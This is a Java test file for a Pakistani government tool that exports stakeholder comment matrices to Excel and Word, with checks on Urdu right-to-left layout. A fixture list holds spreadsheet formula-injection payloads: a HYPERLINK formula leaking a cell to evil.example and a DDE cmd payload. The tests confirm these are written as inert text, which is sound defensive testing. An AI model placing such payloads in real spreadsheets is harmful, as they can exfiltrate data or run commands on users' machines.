package pk.gov.mashwara.record.matrix;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.time.Instant;
import java.util.List;

import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.ReadingOrder;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.junit.jupiter.api.Test;
import org.openxmlformats.schemas.wordprocessingml.x2006.main.STPageOrientation;

import pk.gov.mashwara.shared.InvalidInputException;

/** The matrix files read back with POI, cell by cell and run by run. */
class MatrixFilesTest {

    static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A2)");

    static Matrix matrix() {
        var rows = List.of(
                new Matrix.Row(1, 2, "p. 1, Clause 1", "for three years", "Too long for small firms.", "for two years",
                        "Amina Khan (Ministry of Law and Justice)", "Legal / constitutional", "Must change",
                        "Accepted", "Drafter (PTA): Agreed.", "Incorporated in v3"),
                new Matrix.Row(2, 2, "“شق 2”", "شکایات کا ریکارڈ", "یہ مدت کم ہے۔", "", "علی رضا (وزارت اطلاعات)",
                        "Policy", "Consider", "Declined: Covered by the Act", "", ""),
                new Matrix.Row(3, 2, "the draft as a whole", "", HOSTILE.get(0), HOSTILE.get(1), HOSTILE.get(2),
                        HOSTILE.get(3), "Should change", "Open", "", ""));
        return new Matrix("Social Media Rules / سوشل میڈیا رولز", "NSMCWG/2026/0042", "F.No. 1(2)/2026", "Restricted",
                "Pakistan Telecommunication Authority", 2, "Secretary (NSMCWG secretary)",
                Instant.parse("2026-12-06T10:00:00Z"), rows);
    }

    @Test
    void the_spreadsheet_has_a_frozen_filtered_header_wrapped_cells_and_urdu_right_to_left() throws Exception {
        var content = MatrixXlsx.write(matrix());
        try (var book = new XSSFWorkbook(new ByteArrayInputStream(content))) {
            var sheet = book.getSheetAt(0);
            assertThat(sheet.getRow(0).getCell(0).getStringCellValue()).isEqualTo("Comments matrix: Social Media Rules / سوشل میڈیا رولز");
            assertThat(sheet.getRow(1).getCell(0).getStringCellValue()).contains("Diary No. NSMCWG/2026/0042",
                    "File No. F.No. 1(2)/2026", "RESTRICTED", "Pakistan Telecommunication Authority");
            assertThat(sheet.getRow(2).getCell(0).getStringCellValue()).startsWith("Version 2  ·  3 comments");
            var header = sheet.getRow(3);
            for (int c = 0; c < Matrix.HEADINGS.size(); c++) {
                assertThat(header.getCell(c).getStringCellValue()).isEqualTo(Matrix.HEADINGS.get(c));
                assertThat(sheet.getColumnWidth(c)).as("column " + c).isGreaterThanOrEqualTo(6 * 256);
            }
            assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
            assertThat((int) sheet.getPaneInformation().getHorizontalSplitTopRow()).isEqualTo(4);
            assertThat(sheet.getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A4:L7");
            var first = sheet.getRow(4);
            var expected = matrix().rows().getFirst().cells();
            for (int c = 0; c < expected.size(); c++) {
                assertThat(first.getCell(c).getStringCellValue()).isEqualTo(expected.get(c));
                assertThat(first.getCell(c).getCellStyle().getWrapText()).isTrue();
            }
            var urdu = sheet.getRow(5).getCell(3);
            assertThat(urdu.getStringCellValue()).isEqualTo("شکایات کا ریکارڈ");
            assertThat(urdu.getCellStyle().getReadingOrder()).isEqualTo(ReadingOrder.RIGHT_TO_LEFT);
            assertThat(sheet.getRow(4).getCell(3).getCellStyle().getReadingOrder()).isNotEqualTo(ReadingOrder.RIGHT_TO_LEFT);
            // hostile cells: text, never formulas, quote-prefixed so that editing them keeps them text
            var hostile = sheet.getRow(6);
            for (int c : new int[] {4, 5, 6, 7}) {
                var cell = hostile.getCell(c);
                assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
                assertThat(cell.getCellStyle().getQuotePrefixed()).isTrue();
                assertThat(HOSTILE).contains(cell.getStringCellValue());
            }
            assertThat(hostile.getCell(8).getCellStyle().getQuotePrefixed()).isFalse();
            for (var row : sheet) {
                for (var cell : row) {
                    assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
                }
            }
        }
    }

    @Test
    void a_written_matrix_reads_back_row_by_row() {
        var entries = MatrixXlsx.read(MatrixXlsx.write(matrix()));
        assertThat(entries).hasSize(3);
        var first = entries.getFirst();
        assertThat(first.row()).isEqualTo(5);
        assertThat(first.existingText()).isEqualTo("for three years");
        assertThat(first.comment()).isEqualTo("Too long for small firms.");
        assertThat(first.proposed()).isEqualTo("for two years");
        assertThat(first.commenter()).isEqualTo("Amina Khan (Ministry of Law and Justice)");
        assertThat(first.category()).isEqualTo("Legal / constitutional");
        assertThat(first.severity()).isEqualTo("Must change");
        assertThat(entries.get(1).existingText()).isEqualTo("شکایات کا ریکارڈ");
        assertThat(entries.get(2).comment()).isEqualTo(HOSTILE.get(0));
    }

    @Test
    void a_file_that_is_not_a_matrix_is_refused_with_a_message() throws Exception {
        assertThatThrownBy(() -> MatrixXlsx.read("not a spreadsheet".getBytes()))
                .isInstanceOfSatisfying(InvalidInputException.class, e -> assertThat(e.messageKey()).isEqualTo("error.matrix.notXlsx"));
        assertThatThrownBy(() -> MatrixXlsx.read(new byte[0]))
                .isInstanceOfSatisfying(InvalidInputException.class, e -> assertThat(e.messageKey()).isEqualTo("error.matrix.noFile"));
        try (var book = new XSSFWorkbook(); var out = new ByteArrayOutputStream()) {
            book.createSheet("x").createRow(0).createCell(0).setCellValue("Something else");
            book.write(out);
            assertThatThrownBy(() -> MatrixXlsx.read(out.toByteArray())).isInstanceOfSatisfying(InvalidInputException.class,
                    e -> assertThat(e.messageKey()).isEqualTo("error.matrix.noHeader"));
        }
    }

    @Test
    void the_word_matrix_is_a_landscape_table_with_a_repeated_header_and_urdu_right_to_left() throws Exception {
        var content = MatrixDocx.write(matrix());
        try (var document = new XWPFDocument(new ByteArrayInputStream(content))) {
            var size = document.getDocument().getBody().getSectPr().getPgSz();
            assertThat(size.getOrient()).isEqualTo(STPageOrientation.LANDSCAPE);
            assertThat(((java.math.BigInteger) size.getW()).intValue()).isGreaterThan(((java.math.BigInteger) size.getH()).intValue());
            var headerText = document.getHeaderList().getFirst().getText();
            assertThat(headerText).contains("RESTRICTED", "Diary No. NSMCWG/2026/0042");
            var paragraphs = document.getParagraphs().stream().map(p -> p.getText()).toList();
            assertThat(paragraphs).contains("COMMENTS MATRIX", "Social Media Rules / سوشل میڈیا رولز");
            assertThat(String.join("\n", paragraphs)).contains("File No. F.No. 1(2)/2026");
            var table = document.getTables().getFirst();
            assertThat(table.getRows()).hasSize(4);
            assertThat(table.getRow(0).isRepeatHeader()).isTrue();
            for (int c = 0; c < Matrix.HEADINGS.size(); c++) {
                assertThat(table.getRow(0).getCell(c).getText()).isEqualTo(Matrix.HEADINGS.get(c));
                assertThat(table.getRow(1).getCell(c).getText()).isEqualTo(matrix().rows().getFirst().cells().get(c));
            }
            var urdu = table.getRow(2).getCell(3).getParagraphs().getFirst();
            assertThat(urdu.getText()).isEqualTo("شکایات کا ریکارڈ");
            assertThat(urdu.getCTP().getPPr().isSetBidi()).isTrue();
            assertThat(urdu.getRuns().getFirst().getCTR().getRPr().sizeOfRtlArray()).isEqualTo(1);
            assertThat(table.getRow(1).getCell(3).getParagraphs().getFirst().getCTP().isSetPPr()
                    && table.getRow(1).getCell(3).getParagraphs().getFirst().getCTP().getPPr().isSetBidi()).isFalse();
            assertThat(table.getRow(3).getCell(4).getText()).isEqualTo(HOSTILE.get(0));
            assertThat(table.getRow(3).getCell(4).getCTTc().xmlText()).doesNotContain("fldSimple", "instrText");
        }
    }

    /** The same matrix as an Urdu reader asks for it. */
    static Matrix urdu() {
        var m = matrix();
        var rows = new java.util.ArrayList<>(m.rows());
        rows.add(new Matrix.Row(4, 2, "صفحہ 3، شق 3", "may issue directions", "", "[حذف کریں]", "علی رضا", "پالیسی",
                "غور کریں", "زیرِ غور", "", ""));
        rows.add(new Matrix.Row(5, 2, "شق 1", "to platforms", "", "[اس کے بعد شامل کریں] and their agents",
                "Amina Khan (Law)\n"
                + pk.gov.mashwara.shared.Messages.get(pk.gov.mashwara.shared.Messages.URDU, "matrix.cell.recordedFrom", "30/11/2026"), "", "", "زیرِ غور", "", ""));
        return new Matrix(m.title(), m.diaryNumber(), m.fileNumber(), "محدود", m.committee(), m.versionNumber(),
                m.generatedBy(), m.generatedAt(), rows, pk.gov.mashwara.shared.Messages.URDU);
    }

    @Test
    void an_urdu_spreadsheet_has_urdu_headings_and_frame_right_to_left_and_reads_back_as_the_english_one() throws Exception {
        var content = MatrixXlsx.write(urdu());
        try (var book = new XSSFWorkbook(new ByteArrayInputStream(content))) {
            var sheet = book.getSheetAt(0);
            assertThat(sheet.isRightToLeft()).isTrue();
            assertThat(book.getSheetName(0)).isEqualTo("تبصروں کا میٹرکس");
            assertThat(sheet.getRow(0).getCell(0).getStringCellValue()).startsWith("تبصروں کا میٹرکس: ")
                    .contains("Social Media Rules / سوشل میڈیا رولز");
            assertThat(sheet.getRow(1).getCell(0).getStringCellValue()).contains("ڈائری نمبر", "NSMCWG/2026/0042",
                    "فائل نمبر", "محدود");
            assertThat(sheet.getRow(2).getCell(0).getStringCellValue()).startsWith("ورژن 2  ·  5 تبصرے  ·  ")
                    .contains("06/12/2026 15:00 PKT");
            var header = sheet.getRow(3);
            assertThat(header.getCell(0).getStringCellValue()).isEqualTo("نمبر شمار");
            assertThat(header.getCell(3).getStringCellValue()).isEqualTo("موجودہ متن");
            assertThat(header.getCell(11).getStringCellValue()).isEqualTo("اگلے ورژن میں حیثیت");
            for (int c = 0; c < Matrix.HEADINGS.size(); c++) {
                assertThat(header.getCell(c).getStringCellValue()).isNotEqualTo(Matrix.HEADINGS.get(c));
                assertThat(header.getCell(c).getCellStyle().getReadingOrder()).isEqualTo(ReadingOrder.RIGHT_TO_LEFT);
            }
        }
        var english = MatrixXlsx.read(MatrixXlsx.write(matrix()));
        var read = MatrixXlsx.read(content);
        assertThat(read).hasSize(5);
        assertThat(read.subList(0, 3)).isEqualTo(english);
        assertThat(read.get(3).proposed()).isEqualTo(pk.gov.mashwara.review.MatrixEntry.DELETE);
        assertThat(read.get(3).category()).isEqualTo("پالیسی");
        assertThat(read.get(3).severity()).isEqualTo("غور کریں");
        assertThat(read.get(4).proposed()).isEqualTo(pk.gov.mashwara.review.MatrixEntry.INSERT_AFTER + " and their agents");
        assertThat(read.get(4).commenter()).isEqualTo("Amina Khan (Law)");
    }

    @Test
    void an_english_matrix_with_the_recorded_line_reads_the_commenter_alone() {
        var m = matrix();
        var rows = List.of(new Matrix.Row(1, 2, "Clause 1", "for three years", "Too long.", "",
                "Amina Khan (Law)\nRecorded from a matrix received on 30/11/2026", "", "", "Open", "", ""));
        var read = MatrixXlsx.read(MatrixXlsx.write(new Matrix(m.title(), m.diaryNumber(), m.fileNumber(),
                m.classification(), m.committee(), 2, m.generatedBy(), m.generatedAt(), rows)));
        assertThat(read.getFirst().commenter()).isEqualTo("Amina Khan (Law)");
    }

    @Test
    void a_matrix_whose_headings_are_neither_english_nor_urdu_is_refused() throws Exception {
        try (var book = new XSSFWorkbook(); var out = new ByteArrayOutputStream()) {
            var row = book.createSheet("x").createRow(0);
            row.createCell(0).setCellValue("موجودہ متن");
            row.createCell(1).setCellValue("Remarks");
            book.write(out);
            assertThatThrownBy(() -> MatrixXlsx.read(out.toByteArray())).isInstanceOfSatisfying(InvalidInputException.class,
                    e -> assertThat(e.messageKey()).isEqualTo("error.matrix.noHeader"));
        }
    }

    @Test
    void an_urdu_word_matrix_has_its_title_headings_and_table_right_to_left() throws Exception {
        var content = MatrixDocx.write(urdu());
        try (var document = new XWPFDocument(new ByteArrayInputStream(content))) {
            assertThat(document.getProperties().getCoreProperties().getTitle()).startsWith("تبصروں کا میٹرکس: ");
            var heading = document.getParagraphs().stream().filter(p -> p.getText().equals("تبصروں کا میٹرکس"))
                    .findFirst().orElseThrow();
            assertThat(heading.getCTP().getPPr().isSetBidi()).isTrue();
            assertThat(document.getParagraphs()).extracting(p -> p.getText()).doesNotContain("COMMENTS MATRIX");
            assertThat(document.getHeaderList().getFirst().getText()).contains("محدود", "ڈائری نمبر");
            var table = document.getTables().getFirst();
            assertThat(table.getCTTbl().getTblPr().isSetBidiVisual()).isTrue();
            for (int c = 0; c < Matrix.HEADINGS.size(); c++) {
                var cell = table.getRow(0).getCell(c);
                assertThat(cell.getText()).isEqualTo(Matrix.headings(pk.gov.mashwara.shared.Messages.URDU).get(c));
                assertThat(cell.getParagraphs().getFirst().getCTP().getPPr().isSetBidi()).as("heading " + c).isTrue();
            }
            assertThat(table.getRow(0).getCell(4).getText()).isEqualTo("تبصرہ");
            assertThat(table.getRow(1).getCell(3).getText()).isEqualTo("for three years");
        }
        try (var document = new XWPFDocument(new ByteArrayInputStream(MatrixDocx.write(matrix())))) {
            assertThat(document.getTables().getFirst().getCTTbl().getTblPr().isSetBidiVisual()).isFalse();
        }
    }
}
